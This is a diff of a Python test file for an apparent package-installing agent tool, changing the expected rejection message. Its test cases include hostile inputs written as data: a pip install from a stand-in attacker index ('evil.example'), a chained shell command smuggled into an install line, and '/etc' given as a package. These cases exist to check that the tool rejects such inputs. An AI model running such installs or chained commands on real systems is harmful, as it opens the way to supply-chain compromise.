@@ -74,7 +74,7 @@ async def test_packages_that_cannot_be_had_are_said_before_anything_runs(
     with pytest.raises(PinfoldError, match="no package 'nosuch'"):
         async with agent_of(workspace, script({"text": "x"}), packages=["nosuch"]):
             pass
-    with pytest.raises(PinfoldError, match="is no package"):
+    with pytest.raises(PinfoldError, match="is not a package name"):
         agent_of(workspace, script({"text": "x"}), packages=["./x"])
 
 
@@ -136,7 +136,7 @@ async def test_unattended_a_package_is_installed_in_mode_full_only(
 
 @pytest.mark.parametrize(
     ("package", "seen"),
-    [("nosuch", "no package 'nosuch'"), ("/etc", "is no package"), (3, "wrong arguments for install")],
+    [("nosuch", "no package 'nosuch'"), ("/etc", "is not a package name"), (3, "wrong arguments for install")],
 )
 async def test_a_package_that_cannot_be_had_is_told_to_the_model(
     index: Index, workspace: Path, script: Any, package: Any, seen: str
@@ -188,7 +188,7 @@ async def test_what_the_tool_says_is_printed(index: Index, workspace: Path, scri
         ("full", "%pip install --index-url=http://evil.example heron", "without --index-url=http://evil.example"),
         ("full", "!pip install heron && touch x", "by a line of its own"),
         ("full", "%pip install", "name the packages to install"),
-        ("full", "%pip install git+https://example.org/x", "is no package"),
+        ("full", "%pip install git+https://example.org/x", "is not a package name"),
     ],
 )
 async def test_a_package_a_cell_may_not_or_cannot_have_is_its_error(
